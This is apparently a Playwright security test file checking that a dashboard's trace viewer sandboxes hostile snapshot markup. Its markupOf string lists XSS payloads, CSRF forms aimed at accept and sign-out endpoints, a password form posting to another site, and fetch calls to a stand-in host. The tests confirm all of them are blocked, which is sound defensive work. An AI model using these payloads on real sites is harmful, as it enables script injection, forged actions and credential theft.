import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type BrowserContext, expect, type Frame, type Page, test } from '@playwright/test'
import { NO_LIMITS, type RealServer, startServer } from '@svc/test-kit/server'
import { failed } from '../../../server/src/testing/upload.ts'
import { cookieOf } from './cookie-of.ts'
import { CALL, evilTrace } from './evil-trace.ts'
import { attach, upload } from './send.ts'

let server: RealServer
let elsewhere: Server
/** What the other site has received, by path. */
let received: string[] = []
let cookie: { name: string; value: string }
let proposal = ''
let execution = ''
let trace = ''
let refreshing = ''
let elsewhereUrl = ''

test.describe.configure({ mode: 'default' })

test.beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    received.push(`${request.method} ${request.url}`)
    response.end('elsewhere')
  })
  await new Promise<void>((resolve) => void elsewhere.listen(0, '127.0.0.1', resolve))
  elsewhereUrl = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
  server = await startServer({ env: { ...NO_LIMITS, SVC_DASHBOARD: '1' } })
  cookie = await cookieOf(server.url, server.welcomeUrl)
  const to = { ...server, now: Date.now() }
  const uploaded = await upload(to, RUN, true)
  execution = uploaded.execution
  proposal = await propose()
  const refresh = `<p>Soon</p><meta http-equiv=refresh content="0;url=${elsewhereUrl}/refresh">`
  await attach(to, uploaded, [evilTrace(markupOf(proposal)), evilTrace(refresh)])
  ;[trace, refreshing] = await tracesOf(execution)
})

test.afterAll(async () => {
  elsewhere?.close()
  await server?.stop()
})

const RUN = {
  build: 'evil',
  results: [
    {
      ...failed('pays'),
      attempts: [
        {
          status: 'failed' as const,
          durationMs: 10,
          detail: {
            errors: [{ message: 'The card was refused' }],
            attachments: [
              { name: 'trace', contentType: 'application/zip' },
              { name: 'trace of a refresh', contentType: 'application/zip' },
            ],
          },
        },
      ],
    },
  ],
}

const EVIL = "top.document.title='owned';window.owned=1;fetch('ELSEWHERE/script')"
const GIF = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='

/** Everything that markup can do at once, or with a click. */
const markupOf = (id: string) =>
  `
<base href="ELSEWHERE/">
<script>EVIL</script>
<img src=x onerror="EVIL"><svg onload="EVIL"><script>EVIL</script><image href="ELSEWHERE/image"/></svg>
<link rel=prefetch href="ELSEWHERE/prefetch"><link rel=stylesheet href="ELSEWHERE/style">
<iframe srcdoc="<script>EVIL</script><form method=post action=ELSEWHERE/srcdoc><button>Nested</button></form>"></iframe>
<iframe src="ELSEWHERE/frame"></iframe><iframe src="javascript:EVIL"></iframe>
<iframe src="data:text/html,<script>EVIL</script>"></iframe>
<object data="ELSEWHERE/object"></object><embed src="ELSEWHERE/embed">
<form method=post enctype=text/plain action=ORIGIN/api/proposals/${id}/accept target=_top><button>Accept</button></form>
<form method=post enctype=text/plain action=ORIGIN/api/sign-out><button>Leave</button></form>
<form method=post action=ELSEWHERE/password><input name=password value=typed><button>Log in</button></form>
<form method=get action=ELSEWHERE/get target=_blank><button>Search</button><button formaction="javascript:EVIL">Run</button></form>
<img usemap="#map" src="${GIF}" width=300 height=40>
<map name=map>
<area shape=rect coords="0,0,99,40" alt=Top target=_top href=ELSEWHERE/top ping="ORIGIN/api/sign-out ELSEWHERE/ping">
<area shape=rect coords="100,0,199,40" alt=Blank target=_blank href=ELSEWHERE/blank ping=ORIGIN/api/sign-out>
<area shape=rect coords="200,0,299,40" alt=Script href="javascript:EVIL"></map>`
    .replaceAll('EVIL', EVIL.replaceAll('"', '&quot;'))
    .replaceAll('ELSEWHERE', elsewhereUrl)
    .replaceAll('ORIGIN', server.url)

async function propose(): Promise<string> {
  const answer = await fetch(`${server.url}/api/proposals`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${server.apiKey}` },
    body: JSON.stringify({
      project: 'shop',
      document: 'docs/rules.md',
      content: '# Rules\n\n## Rules\n\n- Always pay twice.\n',
      evidence: 'a run',
      reasoning: 'It is so.',
    }),
  })
  const { data } = (await answer.json()) as { data: { id: string } }
  return data.id
}

async function tracesOf(id: string): Promise<[string, string]> {
  const { results } = await server.get<{
    results: { attempts: { attachments?: { id: string }[] }[] }[]
  }>(`/api/executions/${id}?status=failed`)
  const [first, second] = results[0]?.attempts[0]?.attachments ?? []
  return [first?.id ?? '', second?.id ?? '']
}

const stateOf = async (id: string) => (await server.get<{ state: string }>(`/api/proposals/${id}`)).state
const snapshot = () => `${server.url}/trace/snapshot/${CALL}?trace=/api/artifacts/${trace}&phase=before`
const signIn = (context: BrowserContext) =>
  context.addCookies([{ ...cookie, url: server.url, httpOnly: true }])

/** A person who has opened a trace before has the viewer's worker. */
async function openTrace(page: Page, id = trace): Promise<void> {
  await signIn(page.context())
  await page.goto(`${server.url}/executions/${execution}/traces/${id}`)
  await expect(page.frameLocator('iframe[title="Trace viewer"]').getByText('Click').first()).toBeVisible()
}

test.beforeEach(() => {
  received = []
})

test('a snapshot in a tab of its own shows nothing of the trace', async ({ page }) => {
  await openTrace(page)
  for (const path of [snapshot(), `${snapshot()}&frameId=frame@1`, snapshot().replace('before', 'after')]) {
    const answer = await page.goto(path)
    expect(answer?.status()).toBe(403)
    await expect(page.locator('body')).toHaveText(/Only the trace viewer shows snapshots/)
    await expect(page.getByRole('button')).toHaveCount(0)
  }
  // From a page of this server, in a tab and in a frame.
  await page.goto(`${server.url}/trace/index.html`)
  const popup = page.waitForEvent('popup')
  await page.evaluate((url) => void window.open(url), snapshot())
  await expect((await popup).locator('body')).toHaveText(/Only the trace viewer/)
  for (const tag of ['object', 'embed']) {
    await page.setContent(
      tag === 'object' ? `<object data="${snapshot()}"></object>` : `<embed src="${snapshot()}">`,
    )
    for (const frame of page.frames())
      expect(await frame.getByRole('button', { name: 'Accept' }).count()).toBe(0)
  }
  expect(await stateOf(proposal)).toBe('open')
})

test('in the viewer, no markup of a snapshot runs, sends, leaves its frame or opens a tab', async ({
  page,
}) => {
  const tabs: string[] = []
  page.context().on('page', (tab) => tabs.push(tab.url()))
  const writes: string[] = []
  await openTrace(page)
  // The policy stops others before they leave the browser.
  page.on('requestfinished', (request) => {
    if (request.method() !== 'GET') writes.push(`${request.method()} ${request.url()}`)
  })
  const address = page.url()
  const frames = () => page.frames().filter((frame) => frame.url().includes('/trace/snapshot/'))
  const shown = async () => {
    await expect.poll(async () => (await visibleIn(frames())).length).toBeGreaterThan(0)
    return (await visibleIn(frames()))[0] as Frame
  }
  for (const name of ['Accept', 'Leave', 'Log in', 'Search', 'Run'])
    await (await shown()).getByRole('button', { name }).click({ noWaitAfter: true })
  for (const x of [50, 150, 250])
    await (await shown()).locator('img[usemap]').click({ position: { x, y: 20 }, noWaitAfter: true })
  await quiet(page)
  expect(page.url()).toBe(address)
  expect(await page.title()).not.toBe('owned')
  for (const frame of page.frames())
    expect(await frame.evaluate(() => 'owned' in window).catch(() => false)).toBe(false)
  expect([tabs, writes, received]).toEqual([[], [], []])
  expect(await stateOf(proposal)).toBe('open')
  expect((await page.request.get(`${server.url}/api/whoami`)).status()).toBe(200)
})

test('the page that shows a snapshot in the whole window does not exist here', async ({ page }) => {
  await openTrace(page)
  const query = new URLSearchParams({ r: snapshot(), trace: `/api/artifacts/${trace}` })
  const answer = await page.goto(`${server.url}/trace/snapshot.html?${query}`)
  expect(answer?.status()).toBe(404)
  await expect(page.locator('iframe')).toHaveCount(0)
})

test('a snapshot that loads another page stays in its frame, and reaches no other site', async ({ page }) => {
  await openTrace(page, refreshing)
  // The browser shows an error in the frame instead.
  await expect.poll(() => page.frames().some((frame) => frame.url().startsWith('chrome-error:'))).toBe(true)
  expect(page.url()).toContain('/traces/')
  expect(received).toEqual([])
})

/** Whatever the page has begun is done before this answer. */
const quiet = (page: Page) => page.evaluate(() => fetch('/healthz').then(() => undefined))

async function visibleIn(frames: Frame[]): Promise<Frame[]> {
  const seen = await Promise.all(
    frames.map((frame) =>
      frame
        .getByRole('button', { name: 'Accept' })
        .isVisible()
        .catch(() => false),
    ),
  )
  return frames.filter((_, i) => seen[i])
}
